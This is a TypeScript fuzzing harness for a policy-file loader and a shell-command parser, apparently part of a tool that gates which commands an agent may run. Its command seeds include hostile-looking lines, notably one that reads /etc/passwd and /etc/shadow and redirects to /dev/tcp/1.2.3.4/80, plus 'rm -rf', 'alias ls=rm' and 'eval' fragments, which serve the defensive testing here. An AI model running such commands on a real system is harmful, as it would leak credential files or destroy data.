/** Policy files and command lines. */
import { readdirSync, readFileSync } from 'node:fs';
import { isDeepStrictEqual } from 'node:util';
import { PolicyError, parsePolicy } from '../../src/policy/load.ts';
import type { ParsedCommand } from '../../src/policy/question.ts';
import { parseCommand } from '../../src/policy/shell/command.ts';
import { holds, shapeOfMessage } from './outcome.ts';
import type { FuzzTarget } from './targets.ts';

const policies = new URL('../../policies/', import.meta.url);
const policyTexts = readdirSync(policies)
  .filter((it) => it.endsWith('.yaml'))
  .map((it) => readFileSync(new URL(it, policies), 'utf8'));

const CONTEXT = {
  workspace: '/ws',
  cwd: '/ws',
  home: '/home/person',
  resolve: (name: string) => (/^[\w.+-]+$/.test(name) ? `/usr/bin/${name}` : undefined),
};

const isKnown = ({ commands, unknown }: ParsedCommand): boolean =>
  unknown.length === 0 && commands.every((it) => it.unknown === undefined);

/** Whether a line after `text` is a line of its own: no here-document or backslash takes it. */
const endsItsLine = (text: string): boolean => !text.includes('<<') && !/\\\s*$/.test(text);

/** Parts of problems of policy files; what stands around them comes from the input. */
const PROBLEM = new RegExp(
  [
    ...[
      'unknown; there are',
      'unknown: there are',
      'unknown; did you mean',
      'is not a host name',
      'is missing',
      'nested',
    ],
    ...[
      'reserved character',
      'in YAML stream',
      'in YAML document',
      'Not a YAML token',
      'extra characters',
      'at node end',
    ],
    ...['[Uu]nresolved', 'closing quote', 'escape sequence', 'same column', 'map keys must be unique', 'implicit'],
    ...['indicator', 'directive', 'alias', 'anchor', 'tag', 'must be', 'the example', 'expression', 'flow'],
    ...['indent', 'comment', 'block', 'a rule', 'expected', 'did you mean', 'there are', 'more than'],
  ].join('|'),
);
const shapeOfProblem = (problem: string): string => PROBLEM.exec(problem)?.[0] ?? 'another problem';

export const textTargets: Record<string, FuzzTarget> = {
  policy: {
    seeds: [
      ...policyTexts.map((it) => it.slice(0, 3000)),
      'version: 1\nrules:\n  - id: a\n    match: { command: "git *", not: { path: "**/.env" } }\n    decision: ask\n    reason: r\n    examples: { match: ["git push"], other: [ls] }\n',
      'version: 1\ntiers: { execute: { decision: allow, network: { allow: [a.org, "*.b.org:443"] } } }\n',
      'version: 1\nx: &a [1]\ny: [*a, *a]\n',
    ],
    words: [
      ...[
        'version: 1\n',
        'extends: default\n',
        'rules:',
        '- ',
        'match: ',
        'decision: deny',
        '&a ',
        '*a',
        '<<: ',
        '!!js ',
      ],
      ...['? ', '|\n', '>\n', '"', "'", '{', '}', '[', ']', '# ', '---\n', '%YAML', '\t', '\u2028', '\u202e', '\x1b['],
    ],
    run(input) {
      // A file that it extends would be read from this machine.
      const text = input.toString().replace(/extends/g, 'Extends');
      try {
        const { rules } = parsePolicy(text, 'fuzz.yaml');
        return `accepted ${Math.min(rules.length, 60)}`;
      } catch (error) {
        if (!(error instanceof PolicyError)) throw error;
        const { problems } = error;
        holds(problems.length > 0, 'a refusal has a reason');
        for (const it of problems) {
          holds(/^fuzz\.yaml:\d+:\d+: |^and \d+ more$/.test(it), `a problem has its place: ${JSON.stringify(it)}`);
          holds(!/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(it), `a problem can't control a terminal: ${JSON.stringify(it)}`);
        }
        return shapeOfProblem((problems[0] as string).replace(/^fuzz\.yaml:\d+:\d+: /, ''));
      }
    },
  },
  commands: {
    seeds: [
      'git status && ls -la | grep "a b" > out.txt 2>&1; cd x; rm -rf ./y',
      "FOO=bar env -i sh -c 'echo $HOME; $(cat f)' <<'E'\nbody\nE\nls",
      'for i in {1..3} a*; do echo "${i:-x}" `date`; done; f() { ls; }; f & case $x in a) ls;; esac',
      'if [[ -f a && b < c ]]; then ((x++)); fi; while read -r l; do :; done < <(sort a) | xargs -n1 rm',
      "ls $'a\\x41' ~/b /etc/{passwd,shadow} >| /dev/tcp/1.2.3.4/80 3<>f",
    ],
    words: [
      ...[
        '$(',
        ')',
        '`',
        '"',
        "'",
        "$'",
        '$((',
        '${',
        '}',
        '{',
        '<<E\n',
        '<<-',
        '<<<',
        '>&',
        '>|',
        '<(',
        '\\',
        '\n',
        ';',
      ],
      ...[
        '&&',
        '||',
        '|',
        '&',
        '#',
        '*',
        '?',
        '[',
        '~',
        '!',
        'if ',
        'fi',
        'do ',
        'done',
        'esac',
        'case x in ',
        'eval ',
      ],
      ...['sh -c ', 'env ', 'sudo ', 'cd x;', 'alias ls=rm', 'function f ', 'coproc ', 'time ', '\r', '\0', '\u00a0'],
    ],
    run(input) {
      const text = input.toString();
      const parsed = parseCommand(text, CONTEXT);
      holds(isDeepStrictEqual(parsed, parseCommand(text, CONTEXT)), 'a text reads the same each time');
      if (!isKnown(parsed))
        return shapeOfMessage(parsed.unknown[0] ?? 'a command is unknown').replace(
          /(unexpected token|expected) .*/is,
          '$1',
        );
      if (endsItsLine(text)) {
        const more = parseCommand(`${text}\nrm fuzz-end`, CONTEXT);
        const isSeen = !isKnown(more) || more.commands.some(({ words }) => words.join(' ') === 'rm fuzz-end');
        holds(isSeen, 'no text that is read as known hides the line behind it');
      }
      return `known ${Math.min(parsed.commands.length, 8)} ${parsed.redirects.length > 0}`;
    },
  },
};
